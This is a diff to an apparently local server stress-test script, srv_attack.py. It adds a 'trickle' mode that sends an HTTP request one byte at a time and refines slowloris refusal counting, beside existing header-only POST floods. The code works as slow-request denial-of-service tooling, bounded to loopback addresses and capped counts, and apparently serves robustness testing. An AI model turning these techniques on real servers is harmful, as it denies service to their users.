@@ -11,6 +11,9 @@ source address in 127.0.0.0/8 may be chosen); every loop is bounded in count and
       a request one byte per I s (default 1); meanwhile GET /v2/health/live on Q (default P)
       from A every T s. Prints 'held H refused R closed_by_server C probes_ok O probes_failed F
       probe_max_ms M'.
+  srv_attack.py trickle --port P --prefix TEXT --rest TEXT [--interval I] --seconds S
+      sends PREFIX at once, then REST one byte per I s (default 0.25) until the server answers
+      or closes; prints '<status line or CLOSED> after <seconds>'.
   srv_attack.py headers --port P --conns N --content-length L --seconds S
       N connections that send only the headers of a POST with Content-Length L, then wait S s.
 """
@@ -92,6 +95,20 @@ def cmd_slowloris(a):
             conns.append([s, 0])
         except OSError:
             refused += 1
+    # libmicrohttpd refuses a connection over its limits by closing it right after accept
+    time.sleep(0.5)
+    for c in conns:
+        try:
+            if c[0].recv(4096) == b'':
+                c[0].close()
+                c[0] = None
+                refused += 1
+        except BlockingIOError:
+            pass
+        except OSError:
+            c[0].close()
+            c[0] = None
+            refused += 1
     closed = 0
     probes_ok = probes_failed = 0
     probe_max = 0.0
@@ -131,6 +148,43 @@ def cmd_slowloris(a):
     return 0
 
 
+def unescape(t):
+    return t.encode('latin-1').decode('unicode_escape').encode('latin-1')
+
+
+def cmd_trickle(a):
+    rest = unescape(a.rest)
+    t0 = time.time()
+    s = connect(a.port)
+    s.sendall(unescape(a.prefix))
+    s.setblocking(False)
+    data = b''
+    i = 0
+    while time.time() - t0 < a.seconds:
+        try:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+            if b'\r\n' in data:
+                break
+        except BlockingIOError:
+            pass
+        except OSError:
+            break
+        if i < len(rest):
+            try:
+                s.send(rest[i:i + 1])
+            except OSError:
+                break
+            i += 1
+        time.sleep(a.interval)
+    s.close()
+    line = data.split(b'\r\n')[0].decode('latin-1') if data else 'CLOSED'
+    print('%s after %.1f' % (line, time.time() - t0))
+    return 0
+
+
 def cmd_headers(a):
     conns = []
     for _ in range(a.conns):
@@ -164,6 +218,12 @@ def main():
     p.add_argument('--probe-port', type=int, default=0)
     p.add_argument('--probe-source', default='127.0.0.1')
     p.add_argument('--probe-every', type=float, default=0)
+    p = sub.add_parser('trickle')
+    p.add_argument('--port', type=int, required=True)
+    p.add_argument('--prefix', required=True)
+    p.add_argument('--rest', required=True)
+    p.add_argument('--interval', type=float, default=0.25)
+    p.add_argument('--seconds', type=float, required=True)
     p = sub.add_parser('headers')
     p.add_argument('--port', type=int, required=True)
     p.add_argument('--conns', type=int, required=True)
@@ -172,7 +232,8 @@ def main():
     a = ap.parse_args()
     if not (1 <= getattr(a, 'conns', 1) <= 1000 and 0 <= getattr(a, 'seconds', 0) <= 60):
         sys.exit('srv_attack.py: --conns must be 1..1000 and --seconds 0..60')
-    return {'raw': cmd_raw, 'slowloris': cmd_slowloris, 'headers': cmd_headers}[a.cmd](a)
+    return {'raw': cmd_raw, 'slowloris': cmd_slowloris, 'headers': cmd_headers,
+            'trickle': cmd_trickle}[a.cmd](a)
 
 
 if __name__ == '__main__':
